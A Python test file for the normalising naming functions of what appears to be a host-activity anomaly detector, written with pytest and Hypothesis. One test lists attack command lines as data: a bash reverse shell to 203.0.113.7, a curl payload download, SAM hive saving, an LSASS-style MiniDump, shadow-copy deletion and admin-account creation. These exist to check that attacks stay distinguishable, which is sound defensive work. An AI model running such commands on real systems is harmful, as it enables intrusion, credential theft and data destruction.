"""Canonical names: the documented table, then what must hold of any text."""

import re
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from graphad.models.names import canonical, canonical_many, command_shape
from graphad.schema import ENTITY_TYPES
from tests.nasty import CORPUS

DOCS = Path(__file__).parents[2] / "docs" / "names.md"
ROW = re.compile(r"^\| (\w+) \| ([^|]+) \| `([^`]*)` \| `([^`]*)` \|$", re.MULTILINE)
TABLE: list[tuple[str, str, str, str]] = ROW.findall(DOCS.read_text(encoding="utf-8"))
CHECKED = settings(max_examples=400, deadline=None)
TYPES = st.sampled_from((*ENTITY_TYPES, "unheard-of"))

# Pieces that masks are made of, put together without sense: what breaks idempotence if anything.
PIECES = st.sampled_from(
    [
        *"aAfFgzZ019.-_~#/\\:<>[]{}@$% \n\x00İΣ|;&'\"=,",
        *("C:\\", "\\\\?\\", "\\??\\", "\\\\.\\pipe\\", "\\\\?\\UNC\\", "\\Device\\Mup\\", "\\\\"),
        *("\\Device\\HarddiskVolume2\\", "\\SystemRoot\\", "%SystemRoot%\\", "%drive%\\"),
        *("Users\\", "\\Temp\\", "/tmp/", "/home/", "/proc/", "/Users/", "tmp", "[12]", "/fd/"),
        *("1234", "12345678", "20240131", "2024-01-31", "12:34:56", "1.2.3", "1.2", "deadbeef"),
        *("beef1", "S-1-5-21-1-2-3-1001", "S-1-5-18", "6fbb0ea8-a739-4301-806c-745b106f87b8"),
        *(".so.6", ".1", ".gz", "HKU\\", "HKCU", "\\REGISTRY\\USER\\", "_Classes", "x_b0b5d"),
        *("\\Services\\", "ControlSet001\\", ".tmp", ".swp", ".pf", ".~lock.", "~DF", "unix:"),
        *("::", "::1", "fe80::1", ":443", ":50000", "10.0.0.1", "0x", "0x3e7", "-996-", "<hex>"),
        *("<user>", "<cut:", "ab1c", "aBcDeF", "rc1", "DWM-1", "&lt;", "Public"),
    ]
)
TEXT = (
    st.lists(PIECES, max_size=12).map("".join)
    | st.text(st.characters(codec=None, categories=None), max_size=40)
    | st.sampled_from(CORPUS)
    | st.lists(PIECES, min_size=60, max_size=90).map("".join)
)
HEX = st.text("0123456789abcdef", min_size=8, max_size=40).filter(lambda s: not s.isalpha())


@pytest.mark.parametrize(("kind", "rule", "given_", "expected"), TABLE)
def test_documented(kind: str, rule: str, given_: str, expected: str) -> None:
    if kind == "command":
        assert command_shape(given_) == expected
    else:
        assert canonical(kind, given_) == expected
        assert canonical(kind, expected) == expected


def test_the_table_is_read_whole() -> None:
    lines = DOCS.read_text(encoding="utf-8").splitlines()
    rows = [line for line in lines if line.startswith("| ") and not line.startswith("| ---")]
    assert len(TABLE) == len(rows) - rows.count("| type | rule | in | out |") > 90
    assert {kind for kind, *_ in TABLE} == {*ENTITY_TYPES, "command"}


@given(TYPES, TEXT)
@CHECKED
@example("file", "xdeadbee12345f00dfeed5")
@example("file", "\\\\?\\unc\\?\\C:\\x")
@example("file", "C:\\Users\\" + "b" * 500)
@example("file", "İ" * 399 + "\\x")
@example("file", "\\temp\\1.2.3deadbeefd")
@example("process", "\\??\\pipe:[12]")
@example("session", "10.0.0.10x3e7")
@example("socket", "fe80::1")
@example("pipe", "\\\\.\\pipe\\\\\\.\\pipe\\x")
def test_naming_twice_is_naming_once(kind: str, label: str) -> None:
    name = canonical(kind, label)
    assert len(name) <= 400
    assert canonical(kind, name) == name


@given(st.lists(st.tuples(TYPES, TEXT), max_size=20))
@CHECKED
def test_many_is_one_by_one(pairs: list[tuple[str, str]]) -> None:
    kinds, labels = [p[0] for p in pairs], [p[1] for p in pairs]
    assert canonical_many(kinds, labels) == [canonical(*pair) for pair in pairs]


def test_many_wants_as_many_labels_as_types() -> None:
    with pytest.raises(ValueError, match="shorter"):
        canonical_many(["file", "file"], ["/a"])


@pytest.mark.parametrize(
    "template",
    ["/proc/{}/status", "/proc/{}/task/{}/stat", "/proc/{}", "/proc/{}/fd/{}", "/dev/pts/{}"],
)
@given(st.integers(1, 2**22), st.integers(1, 2**22))
@settings(max_examples=40, deadline=None)
def test_a_process_id_changes_nothing(template: str, one: int, other: int) -> None:
    assert canonical("file", template.format(one, one)) == canonical(
        "file", template.format(other, other)
    )


@pytest.mark.parametrize(
    "template",
    ["C:\\ProgramData\\{{{}}}\\x", "/var/lib/{}.json", "\\Device\\HarddiskVolume3\\a-{}-b"],
)
@given(st.uuids(), st.uuids())
@settings(max_examples=40, deadline=None)
def test_a_guid_changes_nothing(template: str, one: object, other: object) -> None:
    for spell in (str, lambda guid: str(guid).upper()):
        first = canonical("file", template.format(spell(one)))
        assert first == canonical("file", template.format(other))


USER = st.text("abcdefghijklmnopqrstuvwxyz0123456789._ -", min_size=1, max_size=20).filter(
    lambda name: name.strip(". ") and name not in ("public", "default", "default user", "all users")
)


@pytest.mark.parametrize(
    "template",
    [
        "C:\\Users\\{}\\Desktop\\x.exe",
        "C:\\Users\\{}",
        "\\Device\\HarddiskVolume2\\Users\\{}\\x",
        "\\\\srv\\C$\\Users\\{}\\x",
        "C:\\Documents and Settings\\{}\\x",
        "/home/{}/.bashrc",
        "/home/{}",
    ],
)
@given(USER, USER)
@settings(max_examples=40, deadline=None)
def test_a_user_changes_nothing(template: str, one: str, other: str) -> None:
    assert canonical("file", template.format(one)) == canonical("file", template.format(other))


@pytest.mark.parametrize(
    "template", ["/var/lib/docker/{}/x", "C:\\x\\a-{}.dat", "/sys/fs/docker-{}.scope"]
)
@given(HEX, HEX)
@settings(max_examples=60, deadline=None)
@example("12345678", "20240131deadbeef")
def test_a_hex_run_changes_nothing(template: str, one: str, other: str) -> None:
    names = {canonical("file", template.format(run)) for run in (one, other)}
    if not any(re.fullmatch(r"(?:19|20)\d{6,12}", run) for run in (one, other)):  # a date
        assert len(names) == 1


@pytest.mark.parametrize(
    "template",
    [
        "/usr/bin/python{}.{}",
        "/usr/lib/libx.so.{}.{}",
        "/opt/app-{}.{}.1/bin/app",
        "C:\\Program Files\\App\\{}.{}\\app.exe",
        "C:\\App\\v{}.{}.30319\\x.dll",
    ],
)
@given(st.integers(0, 999), st.integers(0, 99999))
@settings(max_examples=40, deadline=None)
def test_a_version_changes_nothing(template: str, major: int, minor: int) -> None:
    assert canonical("process", template.format(major, minor)) == canonical(
        "process", template.format(1, 2)
    )


@given(st.integers(0, 65535), st.sampled_from(["10.0.0.7", "127.0.0.1", "[::1]", "fe80::2"]))
@CHECKED
def test_ports_from_32768_on_are_one(port: int, host: str) -> None:
    shown = canonical("socket", f"{host}:{port}").rpartition(":")[2]
    assert shown == ("*" if port >= 32768 else str(port))


def _words(text: str) -> list[str]:
    return text.split()


PROGRAMS = _words(
    """
    accessdb addpart agetty apt apt-get awk base64 bash bzip2 cat chage chgrp chmod chown
    chroot cksum clear cmp comm containerd cp cpio cron crontab csplit curl cut dash date
    dbus-daemon dd df diff dig dir dirname dmesg docker dpkg du echo ed egrep env expand
    expr fdisk fgrep file find flock fmt fold free fsck fuser gcc gdb getent getfacl git
    gpg grep groupadd groups gunzip gzip head hostname iconv id ifconfig init insmod
    install iostat ip iptables join journalctl kill killall kmod last ld ldd less link ln
    locale logger login logrotate ls lsattr lsblk lscpu lsmod lsof make man mawk md5sum
    mkdir mkfifo mkfs mknod mktemp modprobe more mount mv nano nc netstat nginx nice nmap
    nohup nproc objdump od openssl passwd paste patch perl pgrep php ping pkill podman
    postgres ps pstree ptx python python3 readelf readlink realpath reboot redis-server rm
    rmdir rsync runc sa1 scp screen sed seq service setfacl sftp sh sha1sum sha256sum
    sha512sum shred shuf sleep snap socat sort split ss ssh ssh-agent ssh-keygen sshd stat
    strace strings strip su sudo sum sync sysctl systemctl systemd systemd-journald
    systemd-logind systemd-resolved systemd-udevd tac tail tar tcpdump tee telnet test
    time timeout tmux top touch tr traceroute true tsort tty umount uname uniq unzip
    uptime useradd usermod vi vim vmstat w wc wget whereis which who whoami
    x86_64-linux-gnu-ld x86_64-linux-gnu-as xargs xz yes zcat zip zsh
    """
)
WINDOWS_PROGRAMS = _words(
    """
    at attrib bitsadmin calc certutil cipher cmd cmdkey cmstp conhost control csc cscript
    csrss dfsvc diskshadow dllhost dns esentutl eventvwr expand explorer extrac32
    fodhelper forfiles ftp hh ieexec infdefaultinstall installutil ipconfig klist lsass
    makecab mavinject mmc msbuild msconfig msdt mshta msiexec msxsl net net1 netsh netstat
    nltest notepad ntdsutil odbcconf ping powershell presentationhost procdump procdump64
    psexec psexec64 psexesvc pwsh qwinsta rasdial reg regasm regedit regini
    register-cimprovider regsvcs regsvr32 replace rpcping rundll32 runonce sc schtasks
    scriptrunner services smss spoolsv svchost system32 systeminfo syswow64 taskeng
    taskhost taskhostw taskkill tasklist vssadmin w32tm wab wevtutil whoami win32calc
    wininit winlogon winrs wmic wmiprvse wscript wsmprovhost
    """
)


def test_different_programs_keep_different_names() -> None:
    paths = [f"{folder}/{name}" for name in PROGRAMS for folder in ("/usr/bin", "/tmp", "/opt/x")]
    paths += [
        f"{folder}\\{name}.exe"
        for name in WINDOWS_PROGRAMS
        for folder in ("C:\\Windows\\System32", "C:\\Users\\bob\\AppData\\Local\\Temp", "C:\\x")
    ]
    assert len(PROGRAMS) + len(WINDOWS_PROGRAMS) > 300
    names = canonical_many(["process"] * len(paths), paths)
    assert len(set(names)) == len(paths)
    assert not [name for name in names if "<tmp>" in name or "<hex>" in name]


def test_the_rid_tells_accounts_apart() -> None:
    names = {canonical("user", f"S-1-5-21-1-2-3-{rid}") for rid in (500, 501, 1104)}
    assert len(names) == 3
    assert canonical("user", "S-1-5-21-9-8-7-500") in names


def test_long_names_stay_different() -> None:
    for length in (401, 3000, 5000, 100_000):
        names = {canonical("file", "/x/" + "y" * length + end) for end in "abc"}
        assert len(names) == 3
        assert all(len(name) <= 400 for name in names)


@pytest.mark.parametrize("kind", [*ENTITY_TYPES, "unheard-of"])
@pytest.mark.parametrize("text", CORPUS, ids=lambda text: ascii(text)[:30])
def test_nasty_text_is_named(kind: str, text: str) -> None:
    name = canonical(kind, text)
    assert canonical(kind, name) == name


HOSTILE = [
    *("1.", "1-", "a1", "-1", "deadbeef", "\\", "/", "\\\\?\\", "\\??\\", "/1", ".1", "\\Temp\\"),
    *("aB", "<", ":", "::1", "S-1-5-21-", "0x", "'", '"', "' ", '\\"', "a=", "$(", "/tmp/1a"),
    *("tmp", "20240131", "12:", "1.2-", "aB1", "(", "-c ", "cmd /c ", 'sh -c "', "\x00", "C:\\a "),
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_a_hundred_thousand_hostile_characters(piece: str) -> None:
    """A pattern that backtracks over them would never come back."""
    for text in (piece * (100_000 // len(piece)), piece * 1300, "C:\\" + piece * 1300 + "!"):
        for kind in ENTITY_TYPES:
            assert len(canonical(kind, text)) <= 400
        assert len(command_shape(text)) <= 200


@given(TEXT | st.lists(PIECES, max_size=30).map(" ".join))
@CHECKED
@example("")
@example("'")
@example('"')
@example('cmd /c cmd /c cmd /c cmd /c "cmd /c "')
@example("sh -c \"sh -c 'sh -c x'\"")
def test_any_command_line_has_a_bounded_shape(line: str) -> None:
    shape = command_shape(line)
    assert len(shape) <= 200
    assert len(command_shape(f"python3 -c {line}")) <= 200


@pytest.mark.parametrize(
    "spellings",
    [
        ["cmd /c whoami", "CMD.EXE /C whoami", '"C:\\Windows\\System32\\cmd.exe" /c whoami'],
        ["powershell -enc AAAA1111bbbb2222CCCC3333", "PowerShell.exe -Enco BBBBa2222cccc3333DDDD"],
        ["git commit -m 'a b'", 'git commit -m "c"', "/usr/bin/git commit -m longer"],
        ["ping -n 1 10.0.0.1", "ping -n 5 192.168.1.7"],
        ["C:\\Program Files\\X\\y.exe -a", '"C:\\Program Files\\X\\y.exe" -a'],
        ["curl http://a.example/1", "curl https://b.example/2?x=y"],
        ["kill -9 4711", "kill -9 12"],
    ],
)  # fmt: skip
def test_values_and_spelling_do_not_matter(spellings: list[str]) -> None:
    assert len({command_shape(line) for line in spellings}) == 1


def test_attack_and_routine_differ() -> None:
    lines = [
        "net user", "net user bob pw /add", "net localgroup administrators bob /add", "net view",
        "powershell -File x.ps1", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "reg query HKLM\\SAM",
        "reg save HKLM\\SAM x.hiv", "reg add HKCU\\Run", "sc query", "sc create x binPath= c:\\x",
        "vssadmin list shadows",
        "vssadmin delete shadows /all /quiet", "bash -c ls", "bash -i",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'", "cat /etc/passwd", "cat /etc/shadow",
        "python3 server.py", "python3 -c 'import pty;pty.spawn(1)'", "git commit", "git push",
        "rundll32 C:\\Windows\\System32\\comsvcs.dll,MiniDump 1 x full", "rundll32 shell32.dll,A",
        "curl -o /tmp/x http://203.0.113.7/x", "curl https://x.example", "chmod +x /tmp/x",
    ]  # fmt: skip
    assert len({command_shape(line) for line in lines}) == len(lines)


def test_secrets_do_not_show() -> None:
    for line in (
        "net user bob S3cret9x /add",
        "mysql -pS3cret9x",
        "x --password=S3cret9x",
        "curl -u bob:S3cret9x http://h/",
        "net use \\\\h\\c$ /user:d\\b S3cret9x",
    ):
        assert "S3cret9x" not in command_shape(line), line
